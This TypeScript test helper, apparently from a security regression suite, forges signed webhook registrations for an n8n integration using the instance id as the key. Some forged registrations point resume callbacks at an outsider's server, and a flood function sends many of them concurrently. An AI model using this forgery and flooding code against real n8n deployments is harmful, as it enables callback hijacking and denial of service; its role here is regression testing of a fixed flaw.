import { createHmac, randomUUID } from 'node:crypto';

import { http } from '../../../../harness/http';

/*
 * What an outsider posts to the fixed path of waiting sends, knowing n8n's instance id (in every downloaded workflow),
 * a task id and chat ids: the messages 0.1.0 accepted, and the new format signed with the instance id.
 */

/** 0.1.0's format: the message as text, signed with n8n's instance id. */
export const signedAsOld = (instanceId: string, message: object) => {
	const payload = JSON.stringify(message);
	return { payload, signature: createHmac('sha256', instanceId).update(payload).digest('hex') };
};

/** The new format, guessed, signed with the instance id instead of the credential's key. */
export const signedAsNew = (instanceId: string, message: object) => {
	const payload = JSON.stringify({ ...message, issuedAt: Date.now(), nonce: randomUUID() });
	const signature = createHmac('sha256', instanceId).update(`request\n${payload}`).digest('hex');
	const key = createHmac('sha256', instanceId).update('id').digest('hex').slice(0, 16);
	return { key, payload, signature };
};

/** A wait registered as 0.1.0 signed it: with n8n's instance id, which every member of the n8n can read. */
export const oldRegistration = (
	instanceId: string,
	handOver: 'resume' | 'collect',
	resumeUrl: string,
	conversations: Array<{ task_id: string; chat_id: string }>,
	waitLimitMs = 60_000,
) =>
	signedAsOld(instanceId, {
		action: 'register',
		resumeUrl,
		token: 't'.repeat(64),
		waitLimitMs,
		handOver,
		combineWithinMs: 0,
		conversations,
	});

/** A registration 0.1.0 took, or its new-format look-alike (every other one), pointing at the outsider's server. */
export function forgedRegistration(
	instanceId: string,
	index: number,
	taskId: string,
	outsiderUrl: string,
) {
	const conversations = [{ task_id: taskId, chat_id: `flood-${index}` }];
	const waitLimitMs = 86_400_000;
	return index % 2 === 0
		? signedAsNew(instanceId, {
				action: 'open',
				waitId: randomUUID(),
				waitLimitMs,
				combineWithinMs: 0,
				conversations,
			})
		: oldRegistration(instanceId, 'collect', `${outsiderUrl}/${index}`, conversations, waitLimitMs);
}

/** Posts `count` forged registrations with `forgers` at once; answers counted by HTTP status (0: no answer). */
export function flood(
	url: string,
	count: number,
	forgers: number,
	body: (index: number) => object,
) {
	const statuses = new Map<number, number>();
	let sent = 0;
	const forger = async () => {
		while (sent < count) {
			const index = sent++;
			const answer = await http(url, { body: body(index), timeoutMs: 60_000 }).catch(() => ({
				status: 0,
			}));
			statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
		}
	};
	const done = Promise.all(Array.from({ length: forgers }, forger)).then(() => statuses);
	return { done, sentSoFar: () => sent };
}

export const byStatus = (statuses: Map<number, number>) =>
	[...statuses]
		.sort(([a], [b]) => a - b)
		.map(([status, count]) => `${status}: ${count}`)
		.join(', ');
